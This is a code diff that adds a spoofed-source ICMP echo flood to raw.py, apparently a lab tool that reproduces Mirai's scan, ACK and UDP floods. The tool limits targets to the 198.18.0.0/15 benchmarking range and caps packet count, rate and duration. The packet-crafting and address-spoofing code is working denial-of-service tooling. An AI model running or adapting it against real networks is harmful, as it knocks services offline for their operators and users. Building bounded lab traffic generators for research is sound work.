@@ -9,6 +9,9 @@
       Mirai's "ack" flood: ACK with random sequence and acknowledgement numbers, random ports, 512 random bytes.
   raw.py udp --src IP --target IP --count N --pps R --seconds S
       Mirai's "udp" (generic) flood: random source and destination port per packet, 512 random bytes.
+  raw.py icmp --spoof-block CIDR --target IP --count N --pps R --seconds S
+      ICMP echo flood from random source addresses of --spoof-block (the lab's internet block, so the victim's
+      replies stay in the lab), 56-byte payload as ping sends.
 
 Bounded by --count and --seconds; refuses destinations outside 198.18.0.0/15.
 """
@@ -47,10 +50,19 @@ def udp_packet(src: str, dst: str, sport: int, dport: int, payload: bytes) -> by
     return ip + udp
 
 
+def icmp_packet(src: str, dst: str, ident: int, seq: int) -> bytes:
+    icmp = struct.pack('!BBHHH', 8, 0, 0, ident, seq) + os.urandom(56)
+    icmp = icmp[:2] + struct.pack('!H', checksum(icmp)) + icmp[4:]
+    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(icmp), random.getrandbits(16), 0, 64, 1, 0, socket.inet_aton(src), socket.inet_aton(dst))
+    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
+    return ip + icmp
+
+
 def main() -> int:
     p = argparse.ArgumentParser()
-    p.add_argument('mode', choices=['scan', 'ack', 'udp'])
-    p.add_argument('--src', required=True)
+    p.add_argument('mode', choices=['scan', 'ack', 'udp', 'icmp'])
+    p.add_argument('--src')
+    p.add_argument('--spoof-block')
     p.add_argument('--block')
     p.add_argument('--also', default='')
     p.add_argument('--also-every', type=int, default=40)
@@ -63,6 +75,13 @@ def main() -> int:
         print('raw.py: --count ≤ 1e6, --pps ≤ 50000, --seconds ≤ 120', file=sys.stderr)
         return 2
     block = ipaddress.ip_network(a.block) if a.block else None
+    spoof = ipaddress.ip_network(a.spoof_block) if a.spoof_block else None
+    if (a.mode == 'icmp') != (spoof is not None) or (a.mode != 'icmp' and not a.src):
+        print('raw.py: icmp takes --spoof-block, the other modes --src', file=sys.stderr)
+        return 2
+    if spoof and not spoof.subnet_of(LAB):
+        print(f'raw.py: --spoof-block {spoof} is outside the lab (198.18.0.0/15)', file=sys.stderr)
+        return 2
     also = [x for x in a.also.split(',') if x]
     for addr in [a.target, *also] + ([str(block.network_address), str(block.broadcast_address)] if block else []):
         if addr and ipaddress.ip_address(addr) not in LAB:
@@ -80,6 +99,10 @@ def main() -> int:
             dport = 23 if random.random() < 0.9 else 2323
             seq = struct.unpack('!I', socket.inet_aton(dst))[0]
             pkt = packet(a.src, dst, random.randrange(1024, 65536), dport, seq, 0, 0x02, random.getrandbits(16), b'')
+        elif a.mode == 'icmp':
+            dst = a.target
+            src = str(spoof.network_address + random.randrange(1, spoof.num_addresses - 1))
+            pkt = icmp_packet(src, dst, random.getrandbits(16), sent & 0xffff)
         elif a.mode == 'udp':
             dst = a.target
             pkt = udp_packet(a.src, dst, random.getrandbits(16), random.getrandbits(16), os.urandom(512))
